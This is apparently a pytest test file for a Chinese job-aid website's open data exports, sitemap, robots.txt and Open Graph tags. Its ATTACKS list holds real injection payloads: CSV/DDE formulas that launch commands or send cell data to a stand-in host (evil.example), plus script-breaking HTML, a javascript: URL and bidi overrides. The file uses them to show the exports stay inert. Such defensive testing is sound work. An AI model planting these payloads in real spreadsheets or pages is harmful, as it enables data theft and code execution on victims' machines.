"""Open data and discovery, read from the built demo as a consumer reads it: /data/*.json with
json, the CSV files with the csv module, sitemap.xml with an XML parser, robots.txt by its lines,
and the canonical and Open Graph tags of every page as a browser parses them (html5lib)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from urllib.parse import unquote, urlsplit

import defusedxml.ElementTree as SafeXML
import pytest
from bs4 import BeautifulSoup

from jiuye import metadata, regions
from pelican.plugins.jiuye_opendata.csv_file import cell
from pelican.plugins.jiuye_opendata.sitemap import Entry, sitemaps
from publishing import verify
from tests.conftest import BUILD_NOW, ROOT, build_site, new_content_dir, scraped

SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
LOCAL_ROOT = "http://127.0.0.1:8000"  # pelicanconf's FEED_DOMAIN: local builds have no SITEURL
HOST = "https://jiuye.example.org"
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def html(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html5lib")


def feed(site: Path, name: str) -> dict:
    return json.loads((site / "data" / name).read_text(encoding="utf-8"))


def page_json_ld(site: Path, url: str) -> dict:
    page = html(site / urlsplit(url).path.lstrip("/") / "index.html")
    return json.loads(page.select_one('script[type="application/ld+json"]').string)


def csv_rows(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), f"{path}: no UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def at(record: object, path: str) -> object:
    """The value at a dotted path, a list taking its first object with the key (as /data/ says)."""
    for key in path.split("."):
        if isinstance(record, list):
            record = next((item[key] for item in record if key in item), None)
        elif isinstance(record, dict):
            record = record.get(key)
        if record is None:
            return None
    return record


def leaf_paths(value: object, prefix: str = "") -> set[str]:
    if isinstance(value, dict):
        return {p for k, v in value.items() if k != "@type" for p in leaf_paths(v, f"{prefix}{k}.")}
    if isinstance(value, list):
        return {p for item in value for p in leaf_paths(item, prefix)}
    return {prefix.rstrip(".")}


def documented(site: Path) -> dict[str, list[str]]:
    """The field paths the documentation page lists, by its section."""
    page = html(site / "data" / "index.html")
    return {
        section: [code.get_text() for code in page.select(f"#{section} + p + dl.fields dt code")]
        for section in ("job-fields", "fair-fields")
    }


def site_url(site: Path, page: Path) -> str:
    relative = page.relative_to(site).as_posix()
    return f"{LOCAL_ROOT}/{relative.removesuffix('index.html')}"


def first_of(page: BeautifulSoup) -> str | None:
    """A syndicated story's repeat names the first one's page (article.html); others name none."""
    link = page.select_one("main p.repeat a")
    return f"{LOCAL_ROOT}{link['href']}" if link else None


def sitemap_entries(site: Path) -> dict[str, str | None]:
    root = SafeXML.parse(site / "sitemap.xml").getroot()
    assert root.tag == f"{SITEMAP}urlset"
    entries = {}
    for url in root.findall(f"{SITEMAP}url"):
        lastmod = url.find(f"{SITEMAP}lastmod")
        entries[url.find(f"{SITEMAP}loc").text] = lastmod.text if lastmod is not None else None
    return entries


def test_json_holds_every_open_job_and_upcoming_fair_as_their_pages_json_ld(demo_site):
    jobs, fairs = feed(demo_site, "jobs.json"), feed(demo_site, "fairs.json")
    for data, kind in ((jobs, "JobPosting"), (fairs, "Event")):
        assert data["@context"] == "https://schema.org" and data["@type"] == "DataFeed"
        assert datetime.fromisoformat(data["dateModified"]) == datetime.fromisoformat(BUILD_NOW)
        assert "注明来源" in data["description"]
        assert data["dataFeedElement"] and {r["@type"] for r in data["dataFeedElement"]} == {kind}
    open_jobs = {f"{LOCAL_ROOT}/jobs/{p.parent.name}/" for p in (demo_site / "jobs").glob("*/index.html")
                 if (s := html(p)).select_one("article.job") and not s.select_one(".expired")}  # fmt: skip
    upcoming = {f"{LOCAL_ROOT}/fairs/{p.parent.name}/" for p in (demo_site / "fairs").glob("*/index.html")
                if (s := html(p)).select_one("article.fair") and "【已结束】" not in s.title.string}  # fmt: skip
    assert [r["url"] for r in jobs["dataFeedElement"]] and {r["url"] for r in jobs["dataFeedElement"]} == open_jobs
    assert {r["url"] for r in fairs["dataFeedElement"]} == upcoming
    # each record is its page's JSON-LD, read from the same typed fields (a job without its HTML body)
    for record in jobs["dataFeedElement"]:
        on_page = page_json_ld(demo_site, record["url"])
        assert record == {k: v for k, v in on_page.items() if k not in ("@context", "description")}
    for record in fairs["dataFeedElement"]:
        assert record == {k: v for k, v in page_json_ld(demo_site, record["url"]).items() if k != "@context"}
    # stable order: jobs newest first, fairs soonest first
    posted = [datetime.fromisoformat(r["datePosted"]) for r in jobs["dataFeedElement"]]
    starts = [datetime.fromisoformat(r["startDate"]).date() for r in fairs["dataFeedElement"]]
    assert posted == sorted(posted, reverse=True) and starts == sorted(starts)


def test_every_province_has_csv_files_of_its_open_records_with_documented_columns(demo_site):
    fields = documented(demo_site)
    for name, section in (("jobs", "job-fields"), ("fairs", "fair-fields")):
        records = feed(demo_site, f"{name}.json")["dataFeedElement"]
        # where each item is, as its source file says (an online fair's record names no place)
        province_of = {slug: regions.find_province(meta["province"]) for slug, meta in scraped(demo_site, name).items()}
        seen = 0
        for province in regions.provinces():
            path = demo_site / "data" / province.slug / f"{name}.csv"
            header = next(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
            assert header == fields[section], path
            rows = csv_rows(path)
            mine = {r["url"]: r for r in records if province_of[urlsplit(r["url"]).path.split("/")[-2]] == province}
            assert [row["url"] for row in rows] == list(mine), path  # the JSON's order
            for row in rows:
                for column, text in row.items():
                    value = at(mine[row["url"]], column)
                    expected = "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)
                    assert text == expected, (path, column)
            seen += len(rows)
        assert records and seen == len(records)  # every record in its province's file


def test_the_documentation_page_names_every_field_and_file_and_every_page_links_to_it(demo_site):
    fields = documented(demo_site)
    jobs, fairs = feed(demo_site, "jobs.json")["dataFeedElement"], feed(demo_site, "fairs.json")["dataFeedElement"]
    assert set().union(*map(leaf_paths, jobs)) <= set(fields["job-fields"])
    assert set().union(*map(leaf_paths, fairs)) <= set(fields["fair-fields"])
    page = html(demo_site / "data" / "index.html")
    assert page.select_one("html")["lang"] == "zh-CN" and page.h1.get_text() == "开放数据"
    for dt in page.select("dl.fields dt"):
        assert dt.find_next_sibling("dd").get_text(strip=True), dt.get_text()
    links = {a["href"] for a in page.select("main a")}
    expected = {"/data/jobs.json", "/data/fairs.json", "/sitemap.xml", "/robots.txt"}
    expected |= {f"/data/{p.slug}/{name}.csv" for p in regions.provinces() for name in ("jobs", "fairs")}
    assert expected <= links and all((demo_site / href.lstrip("/")).is_file() for href in expected)
    for path in (demo_site / "index.html", next((demo_site / "jobs").glob("*/index.html"))):
        footer = [a for a in html(path).select("footer a") if a.get_text() == "开放数据"]
        assert [a["href"] for a in footer] == ["/data/"]


def test_sitemap_lists_every_page_dated_by_its_content(demo_site):
    entries = sitemap_entries(demo_site)
    pages = sorted(demo_site.rglob("*.html"))
    repeats = {site_url(demo_site, p) for p in pages if first_of(html(p))}
    assert repeats  # the demo's syndicated stories: their canonical page is the first one's
    assert set(entries) == {site_url(demo_site, p) for p in pages} - repeats
    assert len(entries) == len(pages) - len(repeats)
    for loc, lastmod in entries.items():
        url = urlsplit(loc)
        assert url.scheme == "http" and f"{url.scheme}://{url.netloc}" == LOCAL_ROOT
        target = demo_site / unquote(url.path).lstrip("/")
        assert (target / "index.html" if url.path.endswith("/") else target).is_file(), loc
        if lastmod is not None:
            assert datetime.fromisoformat(lastmod).tzinfo is not None
    # a job page: its own date; a listing: the newest of what it lists; the search page shows no item
    job = next(r for r in feed(demo_site, "jobs.json")["dataFeedElement"])
    assert datetime.fromisoformat(entries[job["url"]]) == datetime.fromisoformat(job["datePosted"])
    listed = html(demo_site / "jobs" / "hubei" / "index.html").select("main ol li .meta time:first-of-type")
    newest = max(datetime.fromisoformat(t["datetime"]) for t in listed)
    assert datetime.fromisoformat(entries[f"{LOCAL_ROOT}/jobs/hubei/"]) == newest
    assert entries[f"{LOCAL_ROOT}/search/"] is None
    assert sum(1 for v in entries.values() if v) > len(entries) / 2


def test_a_sitemap_past_the_limit_becomes_an_index_of_parts_and_escapes_its_urls():
    given = [Entry(f"https://x.example/a?b=1&c=<{n}>", datetime.fromisoformat(f"2026-01-0{n}T08:00:00+08:00"))
             for n in range(1, 6)]  # fmt: skip
    files = sitemaps(given, "https://x.example", "sitemap.xml", "sitemap-{number}.xml", limit=2)
    assert sorted(files) == ["sitemap-1.xml", "sitemap-2.xml", "sitemap-3.xml", "sitemap.xml"]
    index = SafeXML.fromstring(files["sitemap.xml"])
    assert index.tag == f"{SITEMAP}sitemapindex"
    parts = [s.find(f"{SITEMAP}loc").text for s in index.findall(f"{SITEMAP}sitemap")]
    assert parts == [f"https://x.example/sitemap-{n}.xml" for n in (1, 2, 3)]
    found = []
    for number in (1, 2, 3):
        urls = SafeXML.fromstring(files[f"sitemap-{number}.xml"]).findall(f"{SITEMAP}url")
        assert 1 <= len(urls) <= 2
        found += [(u.find(f"{SITEMAP}loc").text, u.find(f"{SITEMAP}lastmod").text) for u in urls]
    assert found == [(e.loc, e.lastmod.isoformat()) for e in given]
    last = index.findall(f"{SITEMAP}sitemap")[-1].find(f"{SITEMAP}lastmod").text
    assert last == given[-1].lastmod.isoformat()
    single = sitemaps(given, "https://x.example", "sitemap.xml", "sitemap-{number}.xml")
    assert list(single) == ["sitemap.xml"] and len(SafeXML.fromstring(single["sitemap.xml"])) == 5


def test_robots_txt_names_the_sitemap(demo_site):
    lines = (demo_site / "robots.txt").read_text(encoding="utf-8").splitlines()
    assert "User-agent: *" in lines and "Allow: /" in lines
    assert [line for line in lines if line.startswith("Sitemap:")] == [f"Sitemap: {LOCAL_ROOT}/sitemap.xml"]


def test_every_page_has_canonical_and_open_graph_tags(demo_site):
    summaries = {}
    for kind in ("jobs", "fairs"):
        for path in (demo_site.parent / "content" / "scraped" / kind).rglob("*.md"):
            meta = dict(line.split(": ", 1) for line in path.read_text(encoding="utf-8").split("\n\n")[0].splitlines())
            if meta.get("Summary"):
                summaries[meta["Slug"]] = meta["Summary"]
    checked, with_summary = 0, len(summaries)
    for path in sorted(demo_site.rglob("*.html")):
        page = html(path)
        url = first_of(page) or site_url(demo_site, path)
        canonical = page.select('head link[rel="canonical"]')
        og = {m["property"]: m["content"] for m in page.select('head meta[property^="og:"]')}
        assert [c["href"] for c in canonical] == [url] and og["og:url"] == url, path
        assert og["og:title"] == page.title.get_text() and og["og:title"]
        assert og["og:description"] == page.select_one('head meta[name="description"]')["content"]
        assert og["og:site_name"] == "就业援助活动网" and og["og:locale"] == "zh_CN"
        is_item = bool(page.select_one("main > article.job, main > article.fair, main > article.news"))
        assert og["og:type"] == ("article" if is_item else "website"), path
        if path.parent.name in summaries and path.parent.parent.name in ("jobs", "fairs"):
            assert og["og:description"] == summaries.pop(path.parent.name)
        checked += 1
    assert checked > 200 and with_summary > 10 and not summaries  # every job and fair with a summary was seen


# Real payloads: spreadsheet formulas and DDE, markup that ends a script or an attribute, a
# script URL, line and paragraph separators, NUL, bidirectional overrides.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝HYPERLINK(\"http://evil.example\")",
    "</script><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "行\u2028分隔\u2029段",
    "空\x00字符",
    "\u202e覆盖\u202c方向",
]
JOB_TEXT = ("title", "hiringOrganization.name", "identifier.name")
FAIR_TEXT = ("name", "location.name", "location.address.streetAddress", "organizer.name", "description")


def write_hostile(content: Path) -> None:
    """A job and a fair per payload, the payload in every text and URL field, written as an
    editor's file (no scraper's one-line cleaning in between)."""
    (content / "jobs").mkdir()
    (content / "fairs").mkdir()
    for n, attack in enumerate(ATTACKS):
        job = {"Title": attack, "Date": "2026-11-20", "Category": "岗位", "Employer": attack, "Province": "湖北",
               "City": attack, "Slug": f"evil-job-{n}", "Source": attack, "Summary": attack, "Apply_url": attack,
               "Source_url": attack, "Contact": attack, "Valid_through": "2026-12-31"}  # fmt: skip
        fair = {"Title": attack, "Date": "2026-11-20", "Category": "招聘会", "Start": "2026-12-10 09:00",
                "Province": "湖北", "Mode": "线上线下", "Venue": attack, "Organizer": attack, "Online_url": attack,
                "Summary": attack, "Slug": f"evil-fair-{n}", "Source": attack}  # fmt: skip
        for folder, meta in (("jobs", job), ("fairs", fair)):
            text = "".join(f"{key}: {value}\n" for key, value in meta.items()) + f"\n{attack}\n"
            (content / folder / f"evil-{n}.md").write_text(text, encoding="utf-8")
    draft = {"Title": "草稿岗位", "Date": "2026-11-20", "Category": "岗位", "Employer": "某单位", "Province": "湖北",
             "Slug": "draft-job", "Status": "draft"}  # fmt: skip
    (content / "jobs" / "draft.md").write_text(metadata.render(draft, "草稿。"), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile-data")
    content = new_content_dir(tmp)
    write_hostile(content)
    build_site(content, tmp / "output")
    return tmp / "output"


def test_hostile_text_survives_json_exactly_and_is_inert_in_csv(hostile_site):
    expected = {}  # by slug: the payload, less the NUL no XML or HTML output can carry
    for n, attack in enumerate(ATTACKS):
        expected[f"evil-job-{n}"] = expected[f"evil-fair-{n}"] = attack.replace("\x00", "")
    for name, text_fields in (("jobs", JOB_TEXT), ("fairs", FAIR_TEXT)):
        records = feed(hostile_site, f"{name}.json")["dataFeedElement"]
        assert len(records) == len(ATTACKS)
        by_url = {}
        for record in records:
            slug = urlsplit(record["url"]).path.strip("/").split("/")[-1]
            for field in text_fields:
                # a summary is read as one line (jiuye.parsers.line: line separators are spaces)
                text = " ".join(expected[slug].split()) if field == "description" else expected[slug]
                assert at(record, field) == text, (slug, field)
            by_url[record["url"]] = record
        rows = csv_rows(hostile_site / "data" / "hubei" / f"{name}.csv")
        assert len(rows) == len(ATTACKS)
        for row in rows:
            for column, text in row.items():
                assert not text.startswith(FORMULA), (column, text)
                value = at(by_url[row["url"]], column)
                if isinstance(value, str):
                    assert text in (value, f"'{value}") and (text == value) == (not value.startswith(FORMULA))
        # every exported URL is http(s), whatever the fields said
        urls = [u for r in records for u in urls_in(r)]
        assert urls and all(urlsplit(u).scheme in ("http", "https") and urlsplit(u).netloc for u in urls)


def urls_in(value: object) -> list[str]:
    """Every value of a "url" key, at any depth."""
    if isinstance(value, dict):
        return [u for key, v in value.items() for u in ([v] if key == "url" else urls_in(v))]
    if isinstance(value, list):
        return [u for item in value for u in urls_in(item)]
    return []


def test_drafts_are_neither_open_data_nor_in_the_sitemap(hostile_site):
    assert (hostile_site / "drafts" / "draft-job" / "index.html").is_file()  # previewed locally
    entries = sitemap_entries(hostile_site)
    assert f"{LOCAL_ROOT}/jobs/evil-job-0/" in entries and not [loc for loc in entries if "draft" in loc]
    assert "draft-job" not in (hostile_site / "data" / "jobs.json").read_text(encoding="utf-8")
    assert "草稿岗位" not in (hostile_site / "data" / "hubei" / "jobs.csv").read_text(encoding="utf-8-sig")


def test_hostile_titles_stay_text_in_open_graph_tags(hostile_site):
    for path in sorted(hostile_site.glob("*/evil-*/index.html")):
        page = html(path)
        og = {m["property"]: m["content"] for m in page.select('head meta[property^="og:"]')}
        title = page.select_one("main h1").get_text()
        assert og["og:title"] == page.title.get_text() and title in og["og:title"]
        assert og["og:description"] == " ".join(title.split())  # the summary: the same payload, as one line
        own = "[type='application/ld+json'], [src='/theme/js/offline.js']"  # the theme's own scripts
        assert not page.select(f"head svg, head script:not({own})"), path
        assert len(page.select("head link[rel=canonical]")) == 1


def test_cells_a_spreadsheet_would_run_are_quoted():
    for formula in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1"):
        assert cell(formula) == f"'{formula}"
    assert cell("湖北省") == "湖北省" and cell(-5) == "-5" and cell(4500.0) == "4500.0" and cell(True) == "true"
    assert cell(None) == ""


def test_production_build_points_every_discovery_url_at_the_real_host(demo_site, tmp_path):
    output = tmp_path / "public"
    env = {**os.environ, "JIUYE_SITEURL": HOST, "JIUYE_NOW": BUILD_NOW}
    command = [sys.executable, "-m", "pelican", str(demo_site.parent / "content"), "-s", str(ROOT / "publishconf.py")]
    subprocess.run([*command, "-o", str(output)], cwd=ROOT, env=env, check=True, capture_output=True, timeout=600)
    assert (output / "robots.txt").read_text(encoding="utf-8").splitlines()[-1] == f"Sitemap: {HOST}/sitemap.xml"
    locs = [u.find(f"{SITEMAP}loc").text for u in SafeXML.parse(output / "sitemap.xml").getroot()]
    assert locs and all(loc.startswith(f"{HOST}/") for loc in locs)
    home = html(output / "index.html")
    assert home.select_one('link[rel="canonical"]')["href"] == f"{HOST}/"
    for name in ("jobs.json", "fairs.json"):
        data = feed(output, name)
        assert data["url"] == f"{HOST}/data/{name}"
        assert all(r["url"].startswith(f"{HOST}/") for r in data["dataFeedElement"])
    assert verify.problems(output, HOST) == []  # links resolve, XML parses, no local address (CSV included)
